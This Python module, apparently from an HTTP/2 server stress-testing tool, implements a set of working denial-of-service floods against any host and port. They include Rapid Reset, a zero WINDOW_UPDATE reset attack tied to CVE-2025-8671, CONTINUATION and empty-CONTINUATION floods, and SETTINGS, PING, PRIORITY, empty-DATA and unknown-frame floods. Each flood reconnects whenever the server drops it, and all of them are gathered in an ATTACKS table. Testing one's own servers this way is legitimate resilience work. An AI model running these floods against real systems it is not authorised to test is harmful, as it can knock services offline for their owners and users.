"""Floods of frames: each runs for some seconds, over new connections where the old one was closed."""

import time

from wire import Connection, continuation, raw_frame

PING, SETTINGS, WINDOW_UPDATE, PRIORITY, RST, DATA = 6, 4, 8, 2, 3, 0


def flood(host, port, seconds, once, settings=None, prepare=None, pause=0.0):
    """Sends what `once(connection, n)` makes again and again. @returns figures"""
    ends = time.monotonic() + seconds
    rounds, connections, goaways, longest = 0, 0, {}, 0.0
    while time.monotonic() < ends:
        try:
            connection = Connection(host, port, settings)
        except OSError:
            time.sleep(0.05)
            continue
        connections += 1
        began = time.monotonic()
        if prepare:
            prepare(connection)
        n = 0
        while time.monotonic() < ends and connection.send(once(connection, n)):
            n += 1
            if n % 8 == 0 or pause:
                connection.read(pause)
            if connection.closed is not None or connection.goaway() is not None:
                break
        connection.read(0.1)
        rounds += n
        longest = max(longest, time.monotonic() - began)
        code = connection.goaway()
        ended = f"GOAWAY {code}" if code is not None else (connection.closed or "open")
        goaways[ended] = goaways.get(ended, 0) + 1
        connection.close()
    return {"rounds": rounds, "connections": connections, "ended": goaways, "longestSeconds": round(longest, 2)}


def rapid_reset(host, port, seconds):
    def once(connection, n):
        frames = b""
        for i in range(50):
            stream = 2 * (50 * n + i) + 1
            frames += connection.headers(stream) + raw_frame(RST, 0, stream, (8).to_bytes(4, "big"))
        return frames

    found = flood(host, port, seconds, once)
    return {**found, "rounds": found["rounds"] * 50}


def made_you_reset(host, port, seconds):
    """Has the server reset the streams: a WINDOW_UPDATE of 0 on each (CVE-2025-8671)."""

    def once(connection, n):
        frames = b""
        for i in range(50):
            stream = 2 * (50 * n + i) + 1
            frames += connection.headers(stream) + raw_frame(WINDOW_UPDATE, 0, stream, bytes(4))
        return frames

    found = flood(host, port, seconds, once)
    return {**found, "rounds": found["rounds"] * 50}


def continuation_flood(host, port, seconds):
    def prepare(connection):
        connection.send(connection.block(1, [(":method", "POST")], end_headers=False))

    return flood(host, port, seconds, lambda c, n: continuation(1, c.encoder.encode([(f"x-{n}", "y" * 1000)])), prepare=prepare)


def empty_continuations(host, port, seconds):
    def prepare(connection):
        connection.send(connection.block(1, [(":method", "POST")], end_headers=False))

    return flood(host, port, seconds, lambda c, n: continuation(1, b"") * 50, prepare=prepare)


def settings_flood(host, port, seconds):
    return flood(host, port, seconds, lambda c, n: raw_frame(SETTINGS, 0, 0, b"\x00\x03\x00\x00\x00\x64") * 50)


def ping_flood(host, port, seconds):
    return flood(host, port, seconds, lambda c, n: raw_frame(PING, 0, 0, n.to_bytes(8, "big")) * 100)


def pings_each_ms(host, port, seconds):
    return flood(host, port, seconds, lambda c, n: raw_frame(PING, 0, 0, n.to_bytes(8, "big")), pause=0.001)


def window_overflow(host, port, seconds):
    return flood(host, port, seconds, lambda c, n: raw_frame(WINDOW_UPDATE, 0, 0, (2**31 - 1).to_bytes(4, "big")))


def priority_flood(host, port, seconds):
    return flood(host, port, seconds, lambda c, n: raw_frame(PRIORITY, 0, 2 * n + 1, b"\x00\x00\x00\x00\x10") * 50)


def empty_data(host, port, seconds):
    def prepare(connection):
        connection.send(connection.headers(1))

    return flood(host, port, seconds, lambda c, n: raw_frame(DATA, 0, 1, b"") * 50, prepare=prepare)


def unknown_frames(host, port, seconds):
    return flood(host, port, seconds, lambda c, n: raw_frame(0xEE, 0xFF, 0, b"x" * 1000) * 10)


def many_streams(host, port, seconds):
    """Opens streams and never ends one."""

    def once(connection, n):
        return b"".join(connection.headers(2 * (50 * n + i) + 1) for i in range(50))

    return flood(host, port, seconds, once)


ATTACKS = {
    "rapid reset": rapid_reset,
    "made you reset": made_you_reset,
    "CONTINUATION flood": continuation_flood,
    "empty CONTINUATION flood": empty_continuations,
    "SETTINGS flood": settings_flood,
    "PING flood": ping_flood,
    "a PING each ms": pings_each_ms,
    "WINDOW_UPDATE overflow": window_overflow,
    "PRIORITY flood": priority_flood,
    "empty DATA flood": empty_data,
    "unknown frames": unknown_frames,
    "streams without end": many_streams,
}
